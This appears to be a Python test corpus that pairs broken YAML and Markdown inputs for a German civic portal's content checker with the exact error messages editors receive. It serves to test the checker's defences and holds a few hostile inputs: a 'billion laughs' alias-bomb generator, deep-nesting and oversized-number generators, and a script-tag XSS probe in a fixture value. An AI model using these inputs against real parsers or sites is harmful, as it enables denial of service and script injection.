"""Broken inputs an editor might commit, each with the exact lines the editor is told.

Every case starts from a fresh copy of the valid fixture ``tests/fixtures/mini`` (a ``data/``
folder; every path below is relative to it), writes or edits a few files, and lists the problem
lines that ``python -m portal.check`` and the MkDocs build must print: all of them, in the order
they are reported (sorted by file, line, column). A case that expects nothing is content that must
be accepted. ``tests/test_corpus.py`` runs every case through the checker, the real build and
the command line.

Lines in a file of the fixture are not written as numbers but as ``{line:TEXT}``: the line of that
file where TEXT first occurs, once the case has made its change (``Case.expected``). So
``data/measures/glasfaser.yaml:{line:partners: [kammer-test}:11: …`` is the line the case broke,
and a line added to a fixture file moves it without breaking the case. TEXT may span lines
(``\n``); ``{line:…}`` in the message itself ("zuerst in Zeile {line:kind: konferenz}") means the
same file. Files a case writes whole keep their numbers (the case shows them), and so does a problem
with a file itself, such as its name, which is reported at 1:1.

To add a case: copy one that is alike, change what the editor wrote, run
``.venv/bin/pytest tests/test_corpus.py -k <id>`` and read the message you get. If it does not
tell an editor exactly what to fix, improve the message in ``hooks/portal/`` rather than the case.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

from conftest import line_of

from portal.loading import MAX_FILE_BYTES

# What a file can be written as: text (UTF-8), exact bytes, or bytes made when the case runs
# (for files too large to spell out here).
Content = str | bytes | Callable[[], bytes]

INITIATIVE = "initiatives/masterplan-test.yaml"
MEASURE = "measures/glasfaser.yaml"
MEASURE_MD = "measures/fertig.md"
PRESS = "documents/pm-eins.md"
DRAFT = "documents/entwurf.md"
CITY = "organisations/stadt-test.yaml"
CHAMBER = "organisations/kammer-test.yaml"
PERSON = "people/erika-muster.yaml"
TOPIC = "topics/flaechen.yaml"



@dataclass(frozen=True)
class Case:
    """One thing an editor did wrong (or right), and what the editor is told."""

    id: str                      # short, for pytest -k
    name: str                    # what the editor did, in plain words
    expect: tuple[str, ...]      # the exact problem lines; () means the content is accepted
    write: Mapping[str, Content] = field(default_factory=dict)   # files to create or overwrite
    edit: tuple[tuple[str, str, str], ...] = ()                  # (file, old text, new text)
    shows_as_text: tuple[tuple[str, str], ...] = ()              # (page, text) the built page shows literally
    links: tuple[tuple[str, str], ...] = ()                      # (file, target): symbolic links to create
    folders: tuple[str, ...] = ()                                # empty folders to create

    def apply(self, data: Path) -> None:
        """Make the editor's change in a copy of the fixture at ``data``."""
        for rel, target in self.links:
            (data / rel).symlink_to(target.replace("{data}", str(data)))
        for rel in self.folders:
            (data / rel).mkdir(parents=True)
        for rel, old, new in self.edit:
            path = data / rel
            text = path.read_text(encoding="utf-8")
            assert old in text, f"{self.id}: {old!r} not in {rel}"
            path.write_text(text.replace(old, new, 1), encoding="utf-8")
        for rel, content in self.write.items():
            path = data / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            if callable(content):
                content = content()
            if isinstance(content, bytes):
                path.write_bytes(content)
            else:
                path.write_text(content, encoding="utf-8")

    def expected(self, data: Path) -> tuple[str, ...]:
        """The expected lines, each ``{line:TEXT}`` replaced by its line in the case's ``data`` folder."""
        return tuple(resolve_lines(line, data) for line in self.expect)


# {line:TEXT}: TEXT may hold one level of braces ("size: {min: 15, max: 20}").
LINE_OF = re.compile(r"\{line:((?:[^{}]|\{[^{}]*\})*)\}")
FILE_OF = re.compile(r"data/(.+?):(?:\d+|\{line:)")


def resolve_lines(expected: str, data: Path) -> str:
    """``expected`` with every ``{line:TEXT}`` replaced by the 1-based line where TEXT first occurs
    in the file that the line names (``data/<file>:…``), as the case left it in ``data``."""
    if "{line:" not in expected:
        return expected
    found = FILE_OF.match(expected)
    assert found, f"no data/<file>: at the start of {expected!r}"
    return LINE_OF.sub(lambda placeholder: str(line_of(data / found[1], placeholder[1])), expected)


def huge_file() -> bytes:
    """A topic one byte over the size limit, as after pasting in a whole export."""
    head = b"name: Riesig\ndescription: "
    return head + b"a" * (MAX_FILE_BYTES + 1 - len(head))


def alias_bomb() -> bytes:
    """The "billion laughs" attack: nine levels of ten aliases each would expand to a billion values."""
    lines = ["a: &a [x, x, x, x, x, x, x, x, x, x]"]
    for level in range(1, 9):
        name, previous = chr(97 + level), chr(96 + level)
        lines.append(f"{name}: &{name} [" + ", ".join([f"*{previous}"] * 10) + "]")
    return ("\n".join(lines) + "\nname: Bombe\n").encode()


def dense_file() -> bytes:
    """Just under the size limit, but tens of thousands of values: pasted-in data, not content."""
    head = b"name: Dicht\ndescription: x\nsources: ["
    count = (MAX_FILE_BYTES - len(head) - 10) // 3
    return head + b", ".join([b"a"] * count) + b"]\n"


def endless_number() -> bytes:
    """An integer of 5,000 digits, more than Python converts from text (4,300)."""
    return b"name: Zahl\ndescription: " + b"1" * 5000 + b"\n"


def deep_nesting() -> bytes:
    """Brackets nested a thousand deep: PyYAML's recursive parser would run out of stack."""
    return b"name: " + b"[" * 1000 + b"]" * 1000 + b"\n"


CASES: list[Case] = [
    # --- YAML syntax -------------------------------------------------------------------------
    Case("yaml-tab", "Tabulator zum Einrücken",
         ("data/topics/neu.yaml:2:1: YAML-Syntaxfehler: Tabulatorzeichen sind in YAML nicht erlaubt – mit Leerzeichen einrücken (im Editor Tabulatoren durch Leerzeichen ersetzen)",),
         write={"topics/neu.yaml": "name: Neues Thema\n\tdescription: Text\n"}),
    Case("yaml-tab-in-list", "Tabulator vor einem Listeneintrag",
         ("data/initiatives/masterplan-test.yaml:{line:- flaechen}:1: YAML-Syntaxfehler: Tabulatorzeichen sind in YAML nicht erlaubt – mit Leerzeichen einrücken (im Editor Tabulatoren durch Leerzeichen ersetzen)",),
         edit=((INITIATIVE, "topics: [flaechen]\nparticipants", "topics:\n\t- flaechen\nparticipants"),)),
    Case("yaml-colon-in-text", "Doppelpunkt im Text ohne Anführungszeichen",
         ('data/topics/neu.yaml:1:14: YAML-Syntaxfehler: ein Doppelpunkt mit Leerzeichen (\': \') steht an einer Stelle, an der kein Feld beginnen kann – enthält der Text einen Doppelpunkt, den ganzen Text in Anführungszeichen "…" setzen; sonst Einrückung und den Doppelpunkt nach dem Feldnamen in der Zeile davor prüfen',),
         write={"topics/neu.yaml": "name: Flächen: Gewerbe und Industrie\n"}),
    Case("yaml-unclosed-quote", "Anführungszeichen nicht geschlossen",
         ("data/topics/neu.yaml:1:7: YAML-Syntaxfehler: ein Anführungszeichen wird hier geöffnet, aber nicht wieder geschlossen – das passende schließende Anführungszeichen ergänzen",),
         write={"topics/neu.yaml": 'name: "Neues Thema\ndescription: Text\n'}),
    Case("yaml-unclosed-bracket", "Liste in [ ] nicht geschlossen",
         ("data/measures/glasfaser.yaml:{line:partners: [kammer-test}:11: YAML-Syntaxfehler: eine Liste, die hier mit [ beginnt, wird nicht richtig mit ] geschlossen – die Einträge durch Kommas trennen und mit ] schließen",),
         edit=((MEASURE, "partners: [kammer-test]", "partners: [kammer-test"),)),
    Case("yaml-markdown-star", "Markdown **fett** am Anfang eines Werts",
         ('data/topics/neu.yaml:2:14: YAML-Syntaxfehler: ein Wert beginnt mit * oder &, die in YAML Verweise einleiten – Text, der mit * oder & beginnt (etwa Markdown **fett**), in Anführungszeichen "…" setzen',),
         write={"topics/neu.yaml": "name: Neu\ndescription: **Wichtig** ist das\n"}),
    Case("yaml-indentation", "Feld in einem Listeneintrag falsch eingerückt",
         ("data/measures/glasfaser.yaml:{line:note: Auf der Konferenz beschlossen.}:4: YAML-Syntaxfehler: die Einrückung passt nicht zu den Zeilen davor – Felder derselben Ebene gleich weit mit Leerzeichen einrücken",),
         edit=((MEASURE, "    note: Auf der Konferenz", "   note: Auf der Konferenz"),)),
    Case("yaml-second-document", "zweite Zeile --- in einer YAML-Datei",
         ("data/topics/neu.yaml:2:1: YAML-Syntaxfehler: die Datei enthält eine zweite Zeile --- und damit ein zweites Dokument – je Datei nur ein Eintrag; die Zeile --- entfernen (Kopfdaten in Markdown stehen zwischen genau zwei Zeilen ---)",),
         write={"topics/neu.yaml": "name: Alt\n---\nname: Neu\n"}),
    Case("yaml-control-character", "Steuerzeichen aus Word im Text",
         ("data/topics/neu.yaml:1:12: Die Datei enthält ein unzulässiges Steuerzeichen: U+000B (vertikaler Tabulator, ein Zeilenumbruch aus Word) – das unsichtbare Zeichen löschen (es kommt oft beim Kopieren aus Word oder PDF mit)",),
         write={"topics/neu.yaml": "name: Neues\x0bThema\n"}),
    # --- duplicate keys ----------------------------------------------------------------------
    Case("duplicate-key", "Feld zweimal geschrieben",
         ("data/topics/neu.yaml:3:1: Feld 'name': steht doppelt (zuerst in Zeile 1) – jedes Feld darf nur einmal vorkommen; die beiden Einträge zusammenführen",),
         write={"topics/neu.yaml": "name: Neu\ndescription: Text\nname: Alt\n"}),
    Case("duplicate-key-nested", "Feld in einem Listeneintrag zweimal",
         ("data/initiatives/masterplan-test.yaml:{line:kind: sitzung}:5: Feld 'milestones[1].kind': steht doppelt (zuerst in Zeile {line:kind: konferenz}) – jedes Feld darf nur einmal vorkommen; die beiden Einträge zusammenführen",),
         edit=((INITIATIVE, "    kind: konferenz\n", "    kind: konferenz\n    kind: sitzung\n"),)),
    # --- yes/no/on/off, ja ---------------------------------------------------------------------
    Case("bool-title-no", "Titel 'no' ohne Anführungszeichen",
         ('data/initiatives/masterplan-test.yaml:{line:title: no}:1: Feld \'title\': erwartet wird Text, gefunden: den Wahrheitswert false – yes/no, on/off, true/false ohne Anführungszeichen liest YAML als Wahrheitswert; Text in "…" setzen',),
         edit=((INITIATIVE, "title: Masterplan Test", "title: no"),)),
    Case("bool-yes-off", "'Yes' als Name und 'off' als Adresse",
         ('data/organisations/yes.yaml:1:1: Feld \'name\': erwartet wird Text, gefunden: den Wahrheitswert true – yes/no, on/off, true/false ohne Anführungszeichen liest YAML als Wahrheitswert; Text in "…" setzen',
          'data/organisations/yes.yaml:3:1: Feld \'address\': erwartet wird Text, gefunden: den Wahrheitswert false – yes/no, on/off, true/false ohne Anführungszeichen liest YAML als Wahrheitswert; Text in "…" setzen'),
         write={"organisations/yes.yaml": "name: Yes\ntype: verband\naddress: off\nsources: [pm-eins]\n"}),
    Case("bool-reference-no", "Verweis 'no' (etwa für Norwegen) wird zu false",
         ('data/initiatives/masterplan-test.yaml:{line:region: no}:1: Feld \'region\': erwartet wird Text, gefunden: den Wahrheitswert false – yes/no, on/off, true/false ohne Anführungszeichen liest YAML als Wahrheitswert; Text in "…" setzen',),
         edit=((INITIATIVE, "region: teststadt", "region: no"),)),
    Case("bool-allowed-value-on", "'on' als erlaubter Wert",
         ("data/measures/glasfaser.yaml:{line:status: on}:5: Feld 'history[1].status': erwartet wird einer der erlaubten Werte, gefunden: den Wahrheitswert true – yes/no, on/off, true/false ohne Anführungszeichen liest YAML als Wahrheitswert; erlaubt sind: angekuendigt, empfohlen, beschlossen, in_umsetzung, abgeschlossen, eingestellt",),
         edit=((MEASURE, "    status: beschlossen", "    status: on"),)),
    Case("bool-draft-ja", "draft: ja statt true",
         ("data/documents/entwurf.md:{line:draft: ja}:1: Feld 'draft': erwartet wird true oder false, gefunden: den Text 'ja' – true für ja, false für nein schreiben (ohne Anführungszeichen)",),
         edit=((DRAFT, "draft: true", "draft: ja"),)),
    # --- dates -------------------------------------------------------------------------------
    Case("date-slashes", "Datum 03/04/2023: 3. April oder 4. März?",
         ("data/initiatives/masterplan-test.yaml:{line:date: 03/04/2023}:5: Feld 'milestones[1].date': '03/04/2023' ist mehrdeutig: 3. April oder 4. März 2023? – als Jahr-Monat-Tag schreiben: '2023-04-03' für den 3. April, '2023-03-04' für den 4. März",),
         edit=((INITIATIVE, 'date: "2017-03-16"', "date: 03/04/2023"),)),
    Case("date-german-short", "Datum 3.4.23 mit zweistelligem Jahr",
         ("data/initiatives/masterplan-test.yaml:{line:date: 3.4.23}:5: Feld 'milestones[1].date': '3.4.23' ist kein erkanntes Datum (deutsche Schreibweise mit zweistelligem Jahr); erwartet wird Jahr-Monat-Tag – '2023-04-03' schreiben",),
         edit=((INITIATIVE, 'date: "2017-03-16"', "date: 3.4.23"),)),
    Case("date-february-30", "30. Februar",
         ("data/measures/glasfaser.yaml:{line:- date: 2023-02-30}:5: Feld 'history[1].date': '2023-02-30' ist kein gültiger Kalendertag: den 30. Februar 2023 gibt es nicht – der Februar 2023 hat 28 Tage; Tag und Monat prüfen",),
         edit=((MEASURE, 'date: "2017-03-16"', "date: 2023-02-30"),)),
    Case("date-month-13", "Monat 13 (Tag und Monat vertauscht)",
         ("data/measures/glasfaser.yaml:{line:- date: 2023-13-01}:5: Feld 'history[1].date': '2023-13-01' ist kein gültiger Kalendertag: einen Monat 13 gibt es nicht – ist 2023-01-13 gemeint? die Reihenfolge ist Jahr-Monat-Tag",),
         edit=((MEASURE, 'date: "2017-03-16"', "date: 2023-13-01"),)),
    Case("date-season-five-digits", "'Sommer 20234'",
         ("data/initiatives/masterplan-test.yaml:{line:date: Sommer 20234}:5: Feld 'milestones[2].date': 'Sommer 20234': das Jahr 20234 hat 5 statt 4 Ziffern – Tippfehler im Jahr? z. B. 'Sommer 2023'",),
         edit=((INITIATIVE, "date: Frühjahr 2018", "date: Sommer 20234"),)),
    Case("date-month-as-number", "Monat als Zahl 2020.06",
         ('data/measures/glasfaser.yaml:{line:target: 2020.06}:1: Feld \'target\': erwartet wird ein Datum, gefunden: die Zahl 2020.06 – einen Monat mit Bindestrich schreiben, z. B. "2017-03" für März 2017',),
         edit=((MEASURE, 'target: "2020"', "target: 2020.06"),)),
    Case("date-month-name", "Monat als Wort: 'März 2024'",
         ("data/initiatives/masterplan-test.yaml:{line:date: März 2024}:5: Feld 'milestones[1].date': 'März 2024' ist kein erkanntes Datum (Monat als Wort); erwartet wird Jahr-Monat – '2024-03' schreiben",),
         edit=((INITIATIVE, 'date: "2017-03-16"', "date: März 2024"),)),
    Case("date-month-name-ae", "Monat als Wort, klein und mit ae: 'maerz 2020'",
         ("data/measures/glasfaser.yaml:{line:target: maerz 2020}:1: Feld 'target': 'maerz 2020' ist kein erkanntes Datum (Monat als Wort); erwartet wird Jahr-Monat – '2020-03' schreiben",),
         edit=((MEASURE, 'target: "2020"', "target: maerz 2020"),)),
    Case("date-day-month-name", "Datum mit Monat als Wort: '20. März 2017'",
         ("data/documents/pm-eins.md:{line:date: 20. März 2017}:1: Feld 'date': '20. März 2017' ist kein erkanntes Datum (Monat als Wort); erwartet wird Jahr-Monat-Tag – '2017-03-20' schreiben",),
         edit=((PRESS, 'date: "2017-03-20"', "date: 20. März 2017"),)),
    Case("date-day-month-name-impossible", "31. November",
         ("data/documents/pm-eins.md:{line:date: 31. November 2026}:1: Feld 'date': '31. November 2026' ist kein gültiger Kalendertag: den 31. November 2026 gibt es nicht – der November 2026 hat 30 Tage; Tag und Monat prüfen",),
         edit=((PRESS, 'date: "2017-03-20"', "date: 31. November 2026"),)),
    Case("end-before-start", "Ende vor dem Beginn",
         ("data/initiatives/masterplan-test.yaml:{line:end: \"2016\"}:1: Feld 'end': Das Ende (2016) liegt vor dem Beginn (März 2017) – Beginn und Ende prüfen",),
         edit=((INITIATIVE, 'start: "2017-03"', 'start: "2017-03"\nend: "2016"'),)),
    Case("role-end-before-start", "Rolle endet vor ihrem Beginn",
         ("data/people/erika-muster.yaml:{line:end: \"2019-12\"}:5: Feld 'roles[1].end': Das Ende der Rolle (Dezember 2019) liegt vor dem Beginn (2020) – Beginn und Ende prüfen",),
         edit=((PERSON, "    role: Oberbürgermeisterin", '    role: Oberbürgermeisterin\n    start: "2020"\n    end: "2019-12"'),)),
    Case("history-out-of-order", "Verlauf nicht in zeitlicher Reihenfolge",
         ("data/measures/fertig.md:{line:- date: \"2016-05\"}:5: Feld 'history[2].date': Mai 2016 liegt vor dem vorigen Eintrag (16. März 2017) – die Einträge der Reihe nach, den ältesten zuerst, aufschreiben",),
         edit=((MEASURE_MD, '"2018-05"', '"2016-05"'),)),
    # --- empty files -------------------------------------------------------------------------
    Case("empty-file", "leere Datei",
         ("data/topics/neu.yaml:1:1: Die Datei ist leer – die Felder eintragen; Beispiele stehen in der Anleitung auf der Seite „Mitmachen“",),
         write={"topics/neu.yaml": ""}),
    Case("whitespace-only", "Datei nur mit Leerzeilen",
         ("data/topics/neu.yaml:1:1: Die Datei ist leer – die Felder eintragen; Beispiele stehen in der Anleitung auf der Seite „Mitmachen“",),
         write={"topics/neu.yaml": "\n   \n\n"}),
    Case("comment-only", "Datei nur mit einem Kommentar",
         ("data/topics/neu.yaml:1:1: Die Datei enthält nur Kommentare (Zeilen mit #), keine Felder – erwartet werden Felder der Form 'name: wert', siehe Anleitung",),
         write={"topics/neu.yaml": "# Thema kommt noch\n"}),
    Case("front-matter-empty", "leere Kopfdaten",
         ("data/documents/neu.md:1:1: Die Kopfdaten zwischen den beiden Zeilen --- sind leer – die Felder aus der Anleitung (etwa title, type, date) zwischen die Zeilen --- schreiben",),
         write={"documents/neu.md": "---\n---\nText\n"}),
    # --- invisible characters and encodings --------------------------------------------------
    Case("bom-at-start", "Byte-Order-Mark am Dateianfang (Windows-Editor): harmlos, wird angenommen",
         (),
         write={TOPIC: b"\xef\xbb\xbfname: Fl\xc3\xa4chen\ndescription: Gewerbefl\xc3\xa4chen\n"}),
    Case("bom-at-start-markdown", "Byte-Order-Mark vor der ersten Zeile --- einer Quelle: wird angenommen",
         (),
         write={"documents/pm-zwei.md": b'\xef\xbb\xbf---\ntitle: Zwei\ntype: nachricht\ndate: "2020"\n---\nText\n'}),
    Case("windows-line-endings", "Zeilenenden CR LF aus einem Windows-Editor: werden angenommen",
         (),
         write={"topics/neu.yaml": b"name: Neu\r\ndescription: Text\r\n",
                "documents/pm-zwei.md": b'---\r\ntitle: Zwei\r\ntype: nachricht\r\ndate: "2020"\r\n---\r\nText\r\n'}),
    Case("bom-in-reference", "Byte-Order-Mark vor einer id in einem Verweis",
         ("data/measures/glasfaser.yaml:{line:owner: ﻿stadt-test}:1: Feld 'owner': '[U+FEFF]stadt-test' enthält ein unsichtbares Zeichen: U+FEFF (Byte-Order-Mark) an Stelle 1 – das Zeichen löschen, am sichersten die id neu tippen: stadt-test",),
         edit=((MEASURE, "owner: stadt-test", "owner: \ufeffstadt-test"),)),
    Case("zero-width-space-in-source", "unsichtbares Leerzeichen in einer Quellen-id",
         ("data/organisations/kammer-test.yaml:{line:sources: [pm-eins​]}:11: Feld 'sources[1]': 'pm-eins[U+200B]' enthält ein unsichtbares Zeichen: U+200B (Leerzeichen ohne Breite) an Stelle 8 – das Zeichen löschen, am sichersten die id neu tippen: pm-eins",),
         edit=((CHAMBER, "sources: [pm-eins]", "sources: [pm-eins\u200b]"),)),
    Case("zero-width-space-in-id", "unsichtbares Leerzeichen in einer id",
         ("data/initiatives/masterplan-test.yaml:{line:- id: konf​erenz}:5: Feld 'milestones[1].id': 'konf[U+200B]erenz' ist keine gültige id: enthält ein unsichtbares Zeichen: U+200B (Leerzeichen ohne Breite) an Stelle 5 – stattdessen 'konferenz' schreiben; erlaubt sind nur Kleinbuchstaben a–z, Ziffern und einzelne Bindestriche (Umlaute als ae, oe, ue, ß als ss)",),
         edit=((INITIATIVE, "  - id: konferenz", "  - id: konf\u200berenz"),)),
    Case("zero-width-space-in-file-name", "unsichtbares Leerzeichen im Dateinamen",
         ("data/topics/neu\u200b.yaml:1:1: Feld 'Dateiname': 'neu[U+200B].yaml' taugt nicht als Adresse der Seite: der Name enthält ein unsichtbares Zeichen: U+200B (Leerzeichen ohne Breite) an Stelle 4 – die Datei umbenennen in 'neu.yaml'; erlaubt sind nur Kleinbuchstaben a–z, Ziffern und einzelne Bindestriche (Umlaute als ae, oe, ue, ß als ss)",),
         write={"topics/neu\u200b.yaml": "name: Neu\n"}),
    Case("bom-in-field-name", "zwei Dateien zusammenkopiert: Byte-Order-Mark vor einem Feldnamen",
         ("data/topics/neu.yaml:2:1: Feld '[U+FEFF]description': ist kein bekanntes Feld: der Name enthält ein unsichtbares Zeichen: U+FEFF (Byte-Order-Mark) an Stelle 1 – das Zeichen löschen; meinten Sie description?",),
         write={"topics/neu.yaml": "name: Neu\n\ufeffdescription: Text\n"}),
    Case("latin-1", "Datei in Latin-1 gespeichert",
         ("data/topics/neu.yaml:2:23: Die Datei ist nicht in UTF-8 gespeichert: das Byte 0xE4 (in Windows-1252 'ä') ist kein UTF-8 – im Editor die Kodierung UTF-8 wählen und neu speichern",),
         write={"topics/neu.yaml": "name: Neu\ndescription: Gewerbefläche\n".encode("latin-1")}),
    Case("utf-16", "Datei in UTF-16 gespeichert (Windows 'Unicode')",
         ("data/topics/neu.yaml:1:1: Die Datei ist in UTF-16 gespeichert, nicht in UTF-8 – im Editor die Kodierung UTF-8 wählen und neu speichern",),
         write={"topics/neu.yaml": "name: Neu\n".encode("utf-16")}),
    Case("null-byte", "ein einzelnes Null-Byte in einer UTF-8-Datei",
         ("data/topics/neu.yaml:2:16: Die Datei enthält ein unzulässiges Steuerzeichen: U+0000 (Null-Byte) – das unsichtbare Zeichen löschen (es kommt oft beim Kopieren aus Word oder PDF mit)",),
         write={"topics/neu.yaml": b"name: Neu\ndescription: Te\x00xt\n"}),
    Case("huge-file", "riesige Datei",
         ("data/topics/riesig.yaml:1:1: Die Datei ist mit 200.001 Bytes zu groß – höchstens 200.000 Bytes; lange Texte kürzen oder aufteilen",),
         write={"topics/riesig.yaml": huge_file}),
    Case("alias-bomb", "YAML-Verweisbombe (billion laughs)",
         ("data/topics/bombe.yaml:1:4: Die Datei enthält zu viele Einträge: ihre Verweise (& und *) entfalten sich zu mehr als 20.000 Werten – Verweise mit & und * sind in Inhaltsdateien nicht nötig; die Werte ausschreiben",),
         write={"topics/bombe.yaml": alias_bomb}),
    Case("deep-nesting", "Klammern tausendfach verschachtelt",
         ("data/topics/tief.yaml:1:1: Die Datei ist zu tief verschachtelt – so viele Ebenen aus [ ], { } oder Einrückungen braucht kein Inhalt; Klammern und Einrückung prüfen",),
         write={"topics/tief.yaml": deep_nesting}),
    # --- unknown fields ----------------------------------------------------------------------
    Case("typo-titel", "'titel' statt 'title'",
         ("data/initiatives/masterplan-test.yaml:{line:titel: Masterplan Test}:1: Feld 'titel': ist kein bekanntes Feld – meinten Sie title?",
          "data/initiatives/masterplan-test.yaml:{line:titel: Masterplan Test}:1: Feld 'title': fehlt, ist aber Pflicht – steht vielleicht als 'titel' da"),
         edit=((INITIATIVE, "title: Masterplan Test", "titel: Masterplan Test"),)),
    Case("typo-descripton", "'descripton' statt 'description'",
         ("data/topics/flaechen.yaml:{line:descripton: Gewerbeflächen & mehr}:1: Feld 'descripton': ist kein bekanntes Feld – meinten Sie description?",),
         edit=((TOPIC, "description:", "descripton:"),)),
    Case("typo-nested", "Tippfehler in einem Listeneintrag",
         ("data/measures/glasfaser.yaml:{line:sorces: [pm-eins]}:5: Feld 'history[1].sorces': ist kein bekanntes Feld – meinten Sie sources?",
          "data/measures/glasfaser.yaml:{line:sorces: [pm-eins]}:5: Feld 'history[1].sources': fehlt, ist aber Pflicht – steht vielleicht als 'sorces' da"),
         edit=((MEASURE, "    sources: [pm-eins]", "    sorces: [pm-eins]"),)),
    Case("typo-staus", "'histroy' statt 'history': erst der Tippfehler, dann das fehlende Feld, beide an seiner Stelle",
         ("data/initiatives/masterplan-test.yaml:{line:histroy:}:1: Feld 'histroy': ist kein bekanntes Feld – meinten Sie history?",
          "data/initiatives/masterplan-test.yaml:{line:histroy:}:1: Feld 'history': fehlt, ist aber Pflicht – steht vielleicht als 'histroy' da"),
         edit=((INITIATIVE, "history: [", "histroy: ["),)),
    Case("typo-unlike-missing", "ein unbekanntes Feld, das dem fehlenden nicht ähnelt: das Pflichtfeld wird am Anfang gemeldet",
         ("data/initiatives/masterplan-test.yaml:{line:title: Masterplan Test}:1: Feld 'history': fehlt, ist aber Pflicht",
          "data/initiatives/masterplan-test.yaml:{line:zustand:}:1: Feld 'zustand': ist kein bekanntes Feld – meinten Sie start?"),
         edit=((INITIATIVE, "history: [", "zustand: ["),)),
    Case("retired-status", "das alte Feld status einer Initiative: gesagt wird, was es ersetzt",
         ("data/initiatives/masterplan-test.yaml:{line:title: Masterplan Test}:1: Feld 'history': fehlt, ist aber Pflicht",
          "data/initiatives/masterplan-test.yaml:{line:status: laufend}:1: Feld 'status': gibt es nicht mehr: der Stand einer Initiative folgt aus datierten Quellen – den Stand als Eintrag unter history schreiben: date, status (angekuendigt, laufend, abgeschlossen oder unklar), note und sources – so zeigt die Seite, wie alt die Meldung ist"),
         edit=((INITIATIVE, 'history: [{date: "2017-03-20", status: laufend, note: Die Arbeit läuft laut Pressemitteilung., sources: [pm-eins]}]', "status: laufend"),)),
    # --- text left over from a template (scripts/new.sh, the guide's template for GitHub) --------
    Case("placeholder-press-text", "Pressemeldung aus scripts/new.sh veröffentlicht, Text der Vorlage noch da",
         ("data/documents/pm-zwei.md:7:1: Feld 'body': enthält noch den Platzhaltertext aus der Vorlage ('Hier steht in eigenen Worten, was die Meldung sagt.') – den Text der Vorlage durch eine Zusammenfassung der Meldung in eigenen Worten ersetzen",),
         write={"documents/pm-zwei.md": '---\ntitle: Zwei\ntype: pressemitteilung\ndate: "2020"\n---\n\n'
                'Hier steht in eigenen Worten, was die Meldung sagt. Zitate nur kurz und mit Anführungszeichen.\n'}),
    Case("placeholder-in-draft", "Platzhaltertext in einem Entwurf: angenommen",
         (),
         write={"documents/pm-zwei.md": '---\ntitle: Zwei\ntype: pressemitteilung\ndate: "2020"\ndraft: true\n---\n\n'
                'Hier steht in eigenen Worten, was die Meldung sagt. Zitate nur kurz und mit Anführungszeichen.\n'}),
    Case("placeholder-template-fields", "Vorlage aus der Anleitung: Titel und Adresse nicht ersetzt, Hinweis zu Zitaten stehen gelassen",
         ("data/documents/pm-zwei.md:2:1: Feld 'title': enthält noch den Platzhaltertext aus der Vorlage ('Titel der Meldung') – den Titel der Meldung eintragen",
          "data/documents/pm-zwei.md:5:1: Feld 'url': enthält noch den Platzhaltertext aus der Vorlage ('https://…') – die Web-Adresse eintragen oder die Zeile löschen",
          "data/documents/pm-zwei.md:9:1: Feld 'body': enthält noch den Platzhaltertext aus der Vorlage ('Zitate nur kurz und mit Anführungszeichen.') – den Hinweis aus der Vorlage löschen"),
         write={"documents/pm-zwei.md": '---\ntitle: "Titel der Meldung"\ntype: pressemitteilung\ndate: "2020"\nurl: https://…\n---\n\n'
                'Der Rat hat getagt.\nZitate nur kurz und mit Anführungszeichen.\n'}),
    Case("placeholder-uncommented", "Beschreibung aus der Vorlage von scripts/new.sh einkommentiert, aber nicht ersetzt",
         ("data/measures/glasfaser.yaml:{line:description: |}:1: Feld 'description': enthält noch den Platzhaltertext aus der Vorlage ('Was die Maßnahme will, in eigenen Worten.') – den Satz durch eine Beschreibung der Maßnahme in eigenen Worten ersetzen",
          "data/organisations/kammer-test.yaml:{line:website: https://…}:1: Feld 'website': enthält noch den Platzhaltertext aus der Vorlage ('https://…') – die Web-Adresse eintragen oder die Zeile löschen"),
         edit=((MEASURE, "description: \"Alle Gebiete anschließen. <script>alert('measure')</script>\"",
                "description: |\n  Was die Maßnahme will, in eigenen Worten."),
               (CHAMBER, "type: kammer\n", "type: kammer\nwebsite: https://…\n"))),
    # --- wrong types -------------------------------------------------------------------------
    Case("number-for-text", "Zahl, wo Text hingehört",
         ('data/initiatives/masterplan-test.yaml:{line:title: 2020}:1: Feld \'title\': erwartet wird Text, gefunden: die Zahl 2020 – Zahlen, die als Text gemeint sind, in Anführungszeichen setzen: "2020"',),
         edit=((INITIATIVE, "title: Masterplan Test", "title: 2020"),)),
    Case("text-for-list", "ein Text, wo eine Liste hingehört",
         ("data/measures/glasfaser.yaml:{line:topics: flaechen}:1: Feld 'topics': erwartet wird eine Liste (Zeilen mit '- '), gefunden: den Text 'flaechen' – auch ein einzelner Eintrag steht in einer Liste: [flaechen]",),
         edit=((MEASURE, "topics: [flaechen]", "topics: flaechen"),)),
    Case("mapping-for-text", "eingerückte Zeilen unter einem Textfeld",
         ('data/organisations/kammer-test.yaml:{line:name:}:1: Feld \'name\': erwartet wird Text, gefunden: einen Abschnitt mit Feldern – eingerückte Zeilen \'name: wert\' unter dem Feld machen einen Abschnitt daraus; den Text in dieselbe Zeile schreiben, mit Doppelpunkt darin in "…"',),
         edit=((CHAMBER, "name: Kammer Test", "name:\n  de: Kammer Test"),)),
    Case("list-for-mapping", "Liste, wo ein Abschnitt hingehört",
         ("data/initiatives/masterplan-test.yaml:{line:size: [15, 20]}:5: Feld 'working_groups[1].size': erwartet wird ein Abschnitt mit Feldern, gefunden: eine Liste – erwartet werden Felder wie max, min, je Zeile 'name: wert'",),
         edit=((INITIATIVE, "size: {min: 15, max: 20}", "size: [15, 20]"),)),
    Case("mapping-for-list", "Verlauf ohne '- ' (Abschnitt statt Liste)",
         ("data/measures/glasfaser.yaml:{line:history:}:1: Feld 'history': erwartet wird eine Liste (Zeilen mit '- '), gefunden: einen Abschnitt mit Feldern – jeden Eintrag der Liste mit '- ' beginnen",),
         edit=((MEASURE, '  - date: "2017-03-16"', '    date: "2017-03-16"'),)),
    Case("thousands-dot", "100.000 mit Tausenderpunkt",
         ("data/initiatives/masterplan-test.yaml:{line:value: 100.000}:5: Feld 'key_figures[1].value': '100.000' liest YAML als Kommazahl 100,0, nicht als 100000 – Zahlen ohne Tausenderpunkte schreiben: 100000; ist wirklich eine Kommazahl gemeint, eine Null anhängen (z. B. 1.2340)",),
         edit=((INITIATIVE, "value: 100000", "value: 100.000"),)),
    Case("thousands-dots-text", "1.500.000 mit zwei Tausenderpunkten",
         ("data/initiatives/masterplan-test.yaml:{line:value: 1.500.000}:5: Feld 'key_figures[1].value': erwartet wird eine Zahl, gefunden: den Text '1.500.000' – Zahlen ohne Tausenderpunkte schreiben: 1500000",),
         edit=((INITIATIVE, "value: 100000", "value: 1.500.000"),)),
